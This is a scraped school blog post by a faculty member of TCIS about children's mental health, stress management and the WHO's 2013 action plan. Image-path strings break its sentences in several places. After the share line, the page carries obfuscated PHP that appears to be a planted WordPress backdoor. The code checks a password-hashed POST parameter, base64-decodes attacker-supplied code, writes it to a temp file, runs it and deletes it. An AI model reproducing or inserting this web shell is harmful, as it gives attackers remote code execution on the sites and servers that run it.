Mental health of children is most sensitive

Topmost CBSE schools like TCIS iswell aware that protecting children’s mental health is a prime need for their development.

Mental health is a state of mind correlating the physical, emotional, and psychological aspects of a human being. It is considered a wider area of discussion because the impact created is far more influential and deeper. We can determine an individual’s abilities, capacity, effectiveness, and drawbacks by analyzing their mental health. The ability to handle stress or coping under pressure is proficient in a person with good mental health. For your life to be peaceful and productive it is a must to have proper mental health. Our mental health is not just a factor which determines our mental disposition, but also is capable of affecting our family and society.

Mental Disorders have become very common in today’s modern world

Mental Disorders are very common in today’s modern world, unbiased of age and gender. People from various sectors and background in some way or the other endure with these disturbances in their day-to-day life. There are many reasons such as childhood trauma, isolation, poverty, social status, bereavement, illness, anxiety, inferiority complex etc. to be the core reason for mental instability.  Sometimes it can also be because of our environment, unhealthy habits or even a genetic problem. The disorders affect the mood, thinking ability and social behavior of the individual. The emotional, social and psychological pattern of a person can be grouped to find their thinking capability, ideas, thoughts, perception and feelings.

An imbalance in the state of our mind
Topmost CBSE schools_balanced work_The Camford School Coimbatore

Stress is one of the most important reasons which triggers animbalance in our state of mind. It prepares a strong foundation for both mental and physical imbalances. One can feel stressful when he experiences fear,anger, rush or being frustrated. Engulfing yourself in stress isyour body’s counter reaction to your environment, challenge or demand. Even though stress can be termed as a natural human reaction to danger it has both physical and psychological impacts. Psychologically, it drains out the capacity of an individual and makes him lose confidence and willpower. Physical stress produces a low energy level in our body, headaches, Insomnia, lack of sleep etc.

A great target to achieve – Stress management

Stress management seems to be a great target to achieve, but when analyzed and implemented in steps the results are rewarding. Now a days exam stress hasbecome more common among students too. Topmost CBSE schools always have refreshment / stress buster programs for children to bring them out of their stress. There are many ways to conquer stress and maintain a healthy state of mind. Being physically active through regular exercises and playing sportsare real stress busters. Eating nutritious food and maintaining a healthy diet will give the body enough energy to stay strong. On top of all these, socializing with other people and helping one another will increase the morale within us and help us maintain a positive attitude.

Creating an environment that supports an individual to feel comfortable and less vulnerableWorld Health Organization (WHO) believes that creating an environment that supports an individual to feel comfortable and less vulnerable is the key to a healthy state of mind. The social environment, including the civil, political, economic and cultural background plays a vital role in equipping a stress-free society. World Health Organization believes that mental health should be treated with great importance because it ensures a better society. National mental health policies when implemented in both government and non-government rules will bring out effective outcome to tackle the current situation of social stress in our society. World Health Organization in the year 2013 approved a “Comprehensive Mental Health Action Plan” committed to promotemental well- being and mental stability within individuals.

Mental health of children is most sensitive

The mental health of children is the most sensitive part which should be dealt with utmost care. When we think about children’s mental behaviour, it will definitely reflect thesituation in their house or in their school. Parents and teachers play a vital role in understanding the behaviour of the child and help them to come out of theirshell. Regular monitoring, observation and counselling will eventually bring out the facts that are holding back the child’s mental health. Ensuring trust, love and care is the best treatment that will benefit the children to come out of their psychological and emotional distress. Creating an environment which is comforting and welcoming for the children is an important goal of topmost CBSE schools and to ensure a promising future generation and future society.

Author: Ms. Anitha Karunagaran
Faculty, TCIS

Share this :
if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function _set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}} _set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}